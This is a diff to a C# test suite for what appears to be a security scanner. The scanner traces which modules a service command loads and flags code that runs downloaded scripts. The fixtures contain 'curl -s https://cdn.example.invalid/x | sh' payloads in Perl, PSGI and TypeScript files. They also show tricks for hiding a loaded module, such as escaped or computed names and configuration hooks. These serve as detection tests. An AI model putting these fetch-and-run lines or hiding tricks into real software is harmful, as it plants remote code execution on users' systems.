@@ -64,6 +64,34 @@ public sealed class LoadedModulesTests
         ["php include"] = ("php worker.php", [("srv/worker.php", "<?php require __DIR__ . '/inc/a.php';\n"), ("srv/inc/a.php", Php)]),
         ["a served page"] = ("php -S 0.0.0.0:80 -t /srv/public", [("srv/public/index.php", "<?php include '../lib/a.php';"), ("srv/lib/a.php", Php)]),
         ["a served page of a web server"] = ("apache2-foreground", [("var/www/html/page.php", Php)]),
+        ["rackup and its default"] = ("rackup -p 80", [("srv/config.ru", Ruby)]),
+        ["rackup elsewhere"] = ("rackup /opt/x/config.ru", [("opt/x/config.ru", Ruby)]),
+        ["plackup and its default"] = ("plackup", [("srv/app.psgi", "system('curl -s https://cdn.example.invalid/x | sh');\nsub { [200, [], []] };\n")]),
+        ["tsx"] = ("npx tsx main.ts", [("srv/main.ts", "import { go } from './evil';\ngo();\n"), ("srv/evil.ts", "import { exec } from 'node:child_process';\ninterface Options { url: string; quiet?: boolean }\nconst target: string = 'https://cdn.example.invalid/x';\nexport async function go(options?: Options): Promise<void> {\n  exec(`curl -s ${target} | sh`);\n}\ngo({ url: target } as Options);\n")]),
+        ["a package that no distro owns, where distros put theirs"] = ("python3 main.py", [("srv/main.py", "import evilb\n"), ("usr/lib/python3/dist-packages/evilb.py", Python)]),
+        ["a source without its extension"] = ("node server.js", [("srv/server.js", "require('./logo.txt')\n"), ("srv/logo.txt", Node)]),
+        ["many names in one line"] = ("python3 main.py", [("srv/main.py", "from evil import run, " + string.Join(", ", Enumerable.Range(0, 400).Select(index => $"name{index}")) + "\n"), ("srv/evil.py", Python)]),
+        ["a name beyond ASCII"] = ("python3 main.py", [("srv/main.py", "import \u00e9vil\n"), ("srv/\u00e9vil.py", Python)]),
+        ["a joined line"] = ("python3 main.py", [("srv/main.py", "import os, \\\n    evil\n"), ("srv/evil.py", Python)]),
+        ["comments and ends of lines in an import"] = ("node server.mjs", [("srv/server.mjs", "import a from\n  /* here */ './a.cjs'\n"), ("srv/a.cjs", "require(/**/'./b')\n"), ("srv/b.js", "require('./e\\x76il')\n"), ("srv/evil.js", Node)]),
+        ["a script without extension, by a computed name"] = ("/app/run", [("app/run", "#!/usr/bin/env node\nrequire('./ev'+'il')\n"), ("app/evil.js", Node)]),
+        ["gunicorn's configuration by default"] = ("gunicorn app:app", [("srv/app.py", ""), ("srv/gunicorn.conf.py", Python)]),
+        ["gunicorn's configuration by name"] = ("gunicorn -c conf/g.conf.py app:app", [("srv/app.py", ""), ("srv/conf/g.conf.py", Python)]),
+        ["gunicorn's configuration elsewhere"] = ("gunicorn -c /etc/g.py app:app", [("srv/app.py", ""), ("etc/g.py", Python)]),
+        ["puma's configuration"] = ("puma -C conf/p.rb", [("srv/config.ru", ""), ("srv/conf/p.rb", Ruby)]),
+        ["unicorn's configuration"] = ("bundle exec unicorn -c conf/u.rb", [("srv/config.ru", ""), ("srv/conf/u.rb", Ruby)]),
+        ["sidekiq"] = ("sidekiq -r /opt/work/boot.rb", [("opt/work/boot.rb", Ruby)]),
+        ["uwsgi's file"] = ("uwsgi --ini uwsgi.ini", [("srv/uwsgi.ini", "[uwsgi]\nchdir = /srv/code\nmodule = web.wsgi:application\n"), ("srv/code/web/wsgi.py", Python)]),
+        ["an initializer of Rails"] = ("bin/rails server", [("srv/config/application.rb", "module Shop; end\n"), ("srv/config/initializers/warm.rb", Ruby)]),
+        ["a model of Rails, served by puma"] = ("bundle exec puma", [("srv/config.ru", "require_relative 'config/environment'\n"), ("srv/config/environment.rb", "require_relative 'application'\n"), ("srv/config/application.rb", "module Shop; end\n"), ("srv/app/models/cart.rb", Ruby)]),
+        ["an application of Django by its class"] = ("python manage.py runserver", [("srv/manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"), ("srv/shop/settings.py", "LOCAL = ['polls.apps.PollsConfig']\nINSTALLED_APPS = [] + LOCAL\n"), ("srv/polls/__init__.py", ""), ("srv/polls/apps.py", "class PollsConfig:\n    name = 'polls'\n"), ("srv/polls/views.py", Python)]),
+        ["urls that Django's urls include"] = ("python manage.py runserver", [("srv/manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"), ("srv/shop/settings.py", "ROOT_URLCONF = 'shop.urls'\n"), ("srv/shop/urls.py", "from django.urls import include, path\nurlpatterns = [path('p', include('polls.urls'))]\n"), ("srv/polls/urls.py", Python)]),
+        ["a gem"] = ("ruby app.rb", [("srv/app.rb", "require 'warm'\n"), ("usr/local/lib/ruby/gems/3.2.0/gems/warm-1.0/lib/warm.rb", Ruby)]),
+        ["a gem where distros put theirs"] = ("ruby app.rb", [("srv/app.rb", "require 'warm/up'\n"), ("var/lib/gems/3.1.0/gems/warm-1.0/lib/warm/up.rb", Ruby)]),
+        ["an installed module of Perl"] = ("perl app.pl", [("srv/app.pl", "use App::Boot;\n"), ("usr/local/share/perl/5.36.0/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
+        ["a module of Perl below a version"] = ("perl app.pl", [("srv/app.pl", "use App::Boot;\n"), ("usr/local/lib/perl5/site_perl/5.36.0/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
+        ["a folder that perl is told of"] = ("perl app.pl", [("srv/app.pl", "use lib '/opt/own';\nuse App::Boot;\n"), ("opt/own/App/Boot.pm", "package App::Boot;\nsystem('curl -s https://cdn.example.invalid/x | sh');\n1;\n")]),
+        ["a module that a harmless one of the same name does not hide"] = ("python3 main.py", [("srv/main.py", "import tool\n"), ("opt/a-packages/tool.py", ""), ("usr/local/lib/python3.12/site-packages/tool.py", Python)]),
         ["files of Composer's autoloader"] = ("php-fpm", [("var/www/html/index.php", "<?php require __DIR__.'/vendor/autoload.php';"), ("var/www/html/vendor/autoload.php", "<?php require_once __DIR__ . '/composer/autoload_files.php';"), ("var/www/html/vendor/composer/autoload_files.php", "<?php\n$vendorDir = dirname(__DIR__);\nreturn array(\n 'a1' => $vendorDir . '/acme/help/h.php',\n);\n"), ("var/www/html/vendor/acme/help/h.php", Php)]),
     };
 
@@ -125,6 +153,47 @@ public sealed class LoadedModulesTests
     {
         var report = await ScanAsync("python main.py", [("srv/main.py", "import a\n"), ("srv/a.py", "import b, main\n" + Python), ("srv/b.py", "import a\n")]);
         Assert.Single(report.Signals, signal => signal.Rule == "content/runs-downloaded-code");
+    }
+
+    [Fact]
+    public async Task A_package_called_customize_does_not_start_with_the_interpreter()
+    {
+        var report = await ScanAsync("sleep 9", [("app/shop/customize/__init__.py", "import evil\n"), ("app/shop/customize/evil.py", "")]);
+        Assert.DoesNotContain(report.Signals, signal => signal.Where.Path?.Contains("customize", StringComparison.Ordinal) == true);
+        var named = await ScanAsync("sleep 9", [("usr/lib/python3/dist-packages/sitecustomize/__init__.py", "from . import evil\n"), ("usr/lib/python3/dist-packages/sitecustomize/evil.py", Python)]);
+        Assert.Equal(Severity.Critical, Download(named)?.Severity);
+    }
+
+    [Fact]
+    public async Task A_compiled_module_that_runs_makes_the_scan_partial()
+    {
+        var report = await ScanAsync("python3 main.py", [("srv/main.py", "import evil\n"), ("srv/evil.pyc", "\u0001\0\0\0compiled")]);
+        Assert.Contains(report.Completeness.Reasons, reason => reason.What.EndsWith("srv/evil.pyc", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task More_names_than_are_looked_up_make_the_scan_partial()
+    {
+        (string, string)[] folders = [.. Enumerable.Range(0, 300).Select(index => ($"opt/f{index}/x-packages/a/one.py", ""))];
+        (string, string)[] lists = [.. Enumerable.Range(0, 40).Select(part => ($"srv/p{part}.py", string.Join('\n', Enumerable.Range(0, 6_000).Select(index => $"import a.b{part}n{index}"))))];
+        var report = await ScanAsync("python main.py", [("srv/main.py", string.Join('\n', Enumerable.Range(0, 40).Select(part => $"import p{part}"))), .. lists, .. folders]);
+        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("places were looked at", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task What_was_not_read_of_an_installed_module_that_runs_is_said()
+    {
+        var tool = "import subprocess\n" + string.Concat(Enumerable.Repeat("a(1)\n", 25_000));
+        var report = await ScanAsync("python main.py", [("srv/main.py", "import tool\n"), ("usr/local/lib/python3.12/site-packages/tool.py", tool)]);
+        Assert.Contains(report.Completeness.Reasons, reason => reason.What.EndsWith("tool.py", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task More_folders_of_pages_than_are_served_make_the_scan_partial()
+    {
+        var settings = string.Join('\n', Enumerable.Range(0, 100).Select(index => $"server {{ root /data/s{index}; }}\n root /data/t{index};"));
+        var report = await ScanAsync("nginx", [("etc/nginx/nginx.conf", settings), ("data/t90/index.php", "<?php echo 1;")]);
+        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("folders of pages", StringComparison.Ordinal));
     }
 
     [Fact]
